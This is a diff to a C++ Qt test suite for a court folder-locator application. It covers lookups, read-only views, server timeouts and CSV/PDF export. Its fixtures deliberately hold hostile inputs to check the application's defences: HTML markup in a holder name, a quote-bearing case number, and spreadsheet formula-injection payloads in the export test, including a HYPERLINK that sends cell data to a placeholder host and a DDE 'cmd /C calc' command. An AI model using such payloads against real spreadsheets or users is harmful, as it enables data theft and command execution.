@@ -3,6 +3,7 @@
 #include "TestWorld.h"
 #include "WindowDriver.h"
 #include "clsFolder.h"
+#include "records/Connection.h"
 
 #include <QAbstractItemModel>
 #include <QFile>
@@ -10,6 +11,7 @@
 #include <QPointer>
 #include <QRegularExpression>
 #include <QTabWidget>
+#include <QTcpServer>
 #include <QTableView>
 #include <QTest>
 #include <ctime>
@@ -100,7 +102,9 @@ void Check(const Row &row, int view, const char *labelName = nullptr)
     // A line ending in "*" states only its start (a reason worded by the case key's reader).
     EXPECT_TRUE(Match(Lines(Dates(row.lines)), lines)) << lines.join('\n').toStdString();
     if (labelName) {
-        EXPECT_EQ(w->findChild<QLabel *>(labelName)->text(), Dates(row.label));
+        const QLabel *label = w->findChild<QLabel *>(labelName);
+        EXPECT_EQ(label->text(), Dates(row.label));
+        EXPECT_LT(label->sizeHint().height(), 200) << "court text drawn as markup";
     }
     EXPECT_TRUE(Match(row.boxes, answerer.Lines())) << answerer.Lines().join('\n').toStdString();
     w->close(); // never a question: the locator holds nothing to lose
@@ -111,10 +115,10 @@ void Check(const Row &row, int view, const char *labelName = nullptr)
     }
 }
 
-const QString Out1 = "FILLOG VALUES ('2026-01-05T09:30:00.000Z',2009,'CV',123,1,'CLERK1','SMI',1)";
-const QString In1 = "FILLOG VALUES ('2026-02-10T14:00:00.000Z',2009,'CV',123,1,'CLERK2','SMI',0)";
-const QString Out2 = "FILLOG VALUES ('2026-03-01T08:15:00.000Z',2009,'CV',123,0,'CLERK1','O''NEIL, J',1)";
-const QString Other = "FILLOG VALUES ('2026-03-02T08:15:00.000Z',2009,'CV',124,1,'CLERK1','ELSEWHERE',1)";
+const QString Out1 = "FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-01-05T09:30:00.000Z',2009,'CV',123,1,'CLERK1','SMI',1)";
+const QString In1 = "FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-02-10T14:00:00.000Z',2009,'CV',123,1,'CLERK2','SMI',0)";
+const QString Out2 = "FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-01T08:15:00.000Z',2009,'CV',123,0,'CLERK1','O''NEIL, J',1)";
+const QString Other = "FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-02T08:15:00.000Z',2009,'CV',124,1,'CLERK1','ELSEWHERE',1)";
 
 const Row caseRows[] = {
     {"on loan: the holder, since when, by whom; the history newest first, no other case's",
@@ -138,6 +142,13 @@ const Row caseRows[] = {
      "txtCASNUM=2010-CF-7; txtCASNUM:Return", "", "2010-CF-000007: out to DA since (no date), recorded by CLERK3", ""},
     {"not a case number: said under the box, nothing asked of the court", "", "", "txtCASNUM=2009-CV; txtCASNUM:Return", "",
      "\"2009-CV\" is not a case number; type it as 2009-CV-123, 2009 CV 123 or 2009CV000123.", ""},
+    {"a type code stored in lower case is found, shown as the court's code",
+     "FILCHK VALUES (2009,'cv',123,'SMI',{ago:1},'CLERK1')", "", "txtCASNUM=2009-CV-123; txtCASNUM:Return", "",
+     "2009-CV-000123: out to SMI since {d:1}, recorded by CLERK1", ""},
+    {"a holder's markup is shown as typed, never drawn",
+     "FILCHK VALUES (2009,'CV',123,'<h1 style=\"font-size:400px\">X</h1><img src=\"/x\" width=3000>',{ago:1},'<b>ME</b>')", "",
+     "txtCASNUM=2009-CV-123; txtCASNUM:Return", "",
+     "2009-CV-000123: out to <h1 style=\"font-size:400px\">X</h1><img src=\"/x\" width=3000> since {d:1}, recorded by <b>ME</b>", ""},
     {"a hostile type cannot reach a statement", "FILCHK VALUES (2009,'CV',123,'SMI',{ago:1},'CLERK1')", "",
      "txtCASNUM=2009-C'-123; txtCASNUM:Return", "", "\"2009-C'-123\" is not a case number; type it as 2009-CV-123, 2009 CV 123 or 2009CV000123.", ""},
 };
@@ -151,6 +162,11 @@ const Row holderRows[] = {
      "txtREQOTO=smi; txtREQOTO:Return", "", "",
      "2009-CV-000005 | {d:40} | 40 | CLERK1; 2009-CV-000123 | {d:40} | 40 | CLERK1; 2010-CF-000007 | {d:3} | 3 | CLERK2; "
      "2009-CV-000007 | (no date) |  | CLERK1"},
+    {"letter case and trailing blanks do not count; a lower-case type code is the court's",
+     Held + "; FILCHK VALUES (2009,'cv',9,'sMi  ',{ago:1},'CLERK1'); FILCHK VALUES (2009,'CV',10,'Smith',{ago:1},'CLERK1')", "",
+     "txtREQOTO=Smi ; txtREQOTO:Return", "", "",
+     "2009-CV-000005 | {d:40} | 40 | CLERK1; 2009-CV-000123 | {d:40} | 40 | CLERK1; 2010-CF-000007 | {d:3} | 3 | CLERK2; "
+     "2009-CV-000009 | {d:1} | 1 | CLERK1; 2009-CV-000007 | (no date) |  | CLERK1"},
     {"a name with a wildcard finds itself only", Held, "", "txtREQOTO=S%I; cmdFindHolder", "", "", "2009-CV-000008 | {d:2} | 2 | CLERK1"},
     {"a holder with nothing out", Held, "", "txtREQOTO=NOBODY; cmdFindHolder", "", "", ""},
     {"no holder typed", Held, "", "cmdFindHolder", "OK", "", "", {"Error: Type the party whose folders you are looking for. [OK]"}},
@@ -224,6 +240,67 @@ TEST(LocatorTest, EachView)
         Check(row, 3, "lblAges");
 }
 
+// Every view only reads: a court file in another journal mode is left byte for byte as it was.
+TEST(LocatorTest, ViewsLeaveTheCourtFileAsItWas)
+{
+    if (!TestWorld::OnSQLite())
+        GTEST_SKIP() << "the bytes of a court file";
+    ModalAnswerer answerer; // no box is expected
+    TestWorld world;
+    world.InstallReferenceTables();
+    for (const QString &values : Lines(Docket + "; " + Out1))
+        world.Exec("INSERT INTO MRLCRT." + Dates(values));
+    Connection::CloseAll();
+    world.Exec("PRAGMA MRLCRT.journal_mode=DELETE");
+    const auto bytes = [&] {
+        QFile file(world.DatabaseFile());
+        EXPECT_TRUE(file.open(QIODevice::ReadOnly));
+        return file.readAll();
+    };
+    const QByteArray before = bytes();
+    clsFolder folder;
+    folder.Locate("CLERK1");
+    QPointer<QWidget> w = WindowDriver::Find(Locator);
+    ASSERT_NE(w, nullptr);
+    const char *steps[] = {"txtCASNUM=2009-CV-123; txtCASNUM:Return", "txtREQOTO=SMI; cmdFindHolder", "cmdFindPull",
+                           "cmdFindOverdue"};
+    for (int view = 0; view < 4; ++view) {
+        w->findChild<QTabWidget *>("tabViews")->setCurrentIndex(view);
+        Act(w, Dates(steps[view]));
+    }
+    EXPECT_EQ(w->findChild<QTableView *>("grdPull")->model()->rowCount(), 4);
+    w->close();
+    QCoreApplication::sendPostedEvents(nullptr, QEvent::DeferredDelete);
+    Connection::CloseAll();
+    EXPECT_TRUE(bytes() == before) << "a view wrote to the court file";
+    EXPECT_FALSE(QFile::exists(world.DatabaseFile() + "-wal"));
+}
+
+// A server that never answers is given up on after one connect time, with one box: the view does
+// not ask again for the statement it could not send.
+TEST(LocatorTest, ASilentServerIsOneWaitAndOneBox)
+{
+    QTcpServer silent; // accepts (the kernel does) and never answers
+    ASSERT_TRUE(silent.listen(QHostAddress::LocalHost));
+    ModalAnswerer answerer({"OK"});
+    TestWorld world;
+    world.InstallReferenceTables();
+    qputenv("ZORVA_DATABASE", QStringLiteral("postgresql://clerk@127.0.0.1:%1/court").arg(silent.serverPort()).toUtf8());
+    clsFolder folder;
+    folder.Locate("CLERK1");
+    QPointer<QWidget> w = WindowDriver::Find(Locator);
+    ASSERT_NE(w, nullptr);
+    w->findChild<QTabWidget *>("tabViews")->setCurrentIndex(3);
+    Act(w, "cmdFindOverdue");
+    QTest::qWait(20); // the box answered
+    int connects = 0;
+    for (QTest::qWait(50); silent.hasPendingConnections(); ++connects)
+        delete silent.nextPendingConnection();
+    EXPECT_EQ(connects, 1);
+    EXPECT_TRUE(Match({"Data Error: *"}, answerer.Lines())) << answerer.Lines().join('\n').toStdString();
+    w->close();
+}
+
 // A court with 502 folders overdue: the list holds the 500 out longest, and "List all" the rest.
 TEST(LocatorTest, OverdueListsTheLongestOutThenAll)
 {
@@ -265,8 +342,12 @@ TEST(LocatorTest, ExportsTheListShown)
     TestWorld world;
     world.InstallReferenceTables();
     for (const QString &values : {Out1, Out2, Other,
-                                  QString("FILLOG VALUES ('2026-03-02T08:00:00.000Z',2009,'CV',123,1,'CLERK1','LINE\r\nTWO',0)"),
-                                  QString("FILLOG VALUES ('2026-03-03T08:00:00.000Z',2009,'CV',123,1,'CLERK1','SAYS \"HI\"',1)")})
+                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-02T08:00:00.000Z',2009,'CV',123,1,'CLERK1','LINE\r\nTWO',0)"),
+                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-03T08:00:00.000Z',2009,'CV',123,1,'CLERK1','SAYS \"HI\"',1)"),
+                                  // Parties and users a spreadsheet would run as formulas.
+                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-04T08:00:00.000Z',2009,'CV',123,1,'@SUM(1+1)','=HYPERLINK(\"http://x/?\"&A1,\"click\")',1)"),
+                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-05T08:00:00.000Z',2009,'CV',123,1,'-1+1','+cmd|'' /C calc''!A0',0)"),
+                                  QString("FILLOG (LOGTSP, LOGYER, LOGTYP, LOGSEQ, LOGAUT, LOGUSR, LOGOTO, LOGOUT) VALUES ('2026-03-06T08:00:00.000Z',2009,'CV',123,1,'\tTAB','\rCR',1)")})
         world.Exec("INSERT INTO MRLCRT." + values);
     const QString csv = world.Path("history.csv"), pdf = world.Path("history.pdf"), nowhere = world.Path("none/history.csv");
     ModalAnswerer answerer({"Close", "file:" + csv, "file:" + pdf, "file:" + nowhere, "OK", "Cancel"});
